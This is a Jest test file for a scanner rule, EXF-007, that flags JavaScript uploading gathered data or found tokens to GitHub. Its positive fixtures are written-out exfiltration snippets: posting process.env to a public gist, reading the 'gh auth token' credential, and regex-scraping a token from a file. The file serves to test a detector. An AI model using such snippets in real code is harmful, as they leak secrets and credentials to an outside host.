import { describe, expect, it } from '@jest/globals';
import { hitsOf, js } from '../testing/hits-of.ts';

const found = [
  [
    'the environment in a new gist',
    `fetch('https://api.github.com/gists', { method: 'POST', body: JSON.stringify({ files: { a: { content: JSON.stringify(process.env) } } }) });`,
  ],
  [
    'a repository, with the token of gh',
    `const { execSync } = require('child_process'); const token = execSync('gh auth token').toString();
     fetch('https://api.github.com/user/repos', { method: 'POST', headers: { authorization: 'token ' + token }, body: '{"name":"a"}' });`,
  ],
  [
    'a file, with a token of a known shape',
    `const token = /gh[op]_[A-Za-z0-9]{36}/.exec(read())[0]; const octokit = new Octokit({ auth: token });
     octokit.repos.createOrUpdateFileContents({ path: 'a', content: 'b' });`,
  ],
] as const;

const passed = [
  [
    'a release with its token',
    `fetch('https://api.github.com/repos/a/b/releases', { method: 'POST', headers: { authorization: process.env.GITHUB_TOKEN }, body: '{}' });`,
  ],
  ['a starter that makes a repository', `octokit.repos.createForAuthenticatedUser({ name: answers.name });`],
  ['a redactor of tokens', `module.exports = (text) => text.replace(/gh[op]_[A-Za-z0-9]{36}/g, '***');`],
] as const;

describe('EXF-007 uploads to GitHub what it gathered, or with a token it found', () => {
  it.each(found)('finds %s', (_name, source) => {
    expect(hitsOf('EXF-007', js(source))).toEqual(['critical index.js']);
  });

  it.each(passed)('passes %s', (_name, source) => {
    expect(hitsOf('EXF-007', js(source))).toEqual([]);
  });
});
